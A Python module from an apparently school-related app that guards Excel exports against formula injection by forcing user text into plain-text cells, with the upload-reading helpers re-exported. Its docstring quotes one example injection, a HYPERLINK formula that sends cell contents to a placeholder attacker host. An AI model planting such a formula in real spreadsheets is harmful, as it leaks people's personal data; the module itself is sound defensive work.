"""Writing user text into .xlsx files safely: every app's Excel writer passes its cell values through here;
and (re-exported from caretrack.sheet_reading) reading an upload within bounds for the core's imports.

openpyxl turns any str that starts with "=" into a live formula (and "#N/A" and the like into an error
value). A mentor's talk text `=HYPERLINK("http://evil.example/?d="&B4&G4,"详情")` would then run in the
principal's Excel beside a child's name. So text is always written as text: data_type "s" (an inline
string), and, for text that starts with a formula sign (= + - @, also after tabs, CR or spaces), the
quotePrefix style as well, so that Excel keeps it text even after someone edits the cell. Numbers, dates
and None are left as they are (typed).
"""

from __future__ import annotations

from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

FORMULA_SIGNS = ("=", "+", "-", "@")
# The archive form and the import refuse a person's name that starts like a formula (=B2&C2).
FORMULA_NAME_MESSAGE = "姓名不能以 = + - @ 开头，请核对"


def starts_like_formula(text: str) -> bool:
    """True for text a spreadsheet could take as a formula: = + - @ first, also after tabs, CR, LF or
    spaces. Used by the exports and by the import's name checks alike."""
    return text.lstrip(" \t\r\n").startswith(FORMULA_SIGNS)


def text_cell(ws, value: str):
    """A cell holding `value` as plain text, whatever it starts with."""
    cell = WriteOnlyCell(ws)
    # Control characters are not allowed in the file format; openpyxl would refuse the whole export.
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.data_type = "s"
    if starts_like_formula(value):
        cell.quotePrefix = True
    return cell


def safe_value(ws, value):
    """What to write for one value: str that openpyxl would not keep as plain text become text cells;
    every other value (numbers, dates, None, cells already built) is returned unchanged."""
    if isinstance(value, str) and (
        starts_like_formula(value) or value in ERROR_CODES or ILLEGAL_CHARACTERS_RE.search(value)
    ):
        return text_cell(ws, value)
    return value


def safe_row(ws, values: Iterable) -> list:
    """A row for ws.append() with every text value made safe (see safe_value)."""
    return [safe_value(ws, value) for value in values]


# --- Reading uploads safely --------------------------------------------------------------------------
# Reading lives in caretrack/sheet_reading.py (every format a school has, each bounded before it is parsed);
# its names are re-exported here for the callers that know them from this module.

from caretrack.sheet_reading import (  # noqa: E402, F401  (re-exported)
    FORMATS_LABEL,
    UPLOAD_ACCEPT,
    XLSX_CONTENT_TYPE,
    ReadLimits,
    SheetFileError,
    SheetRows,
    check_limits,
    check_upload,
    file_sha256,
    read_sheets,
    too_big,
)

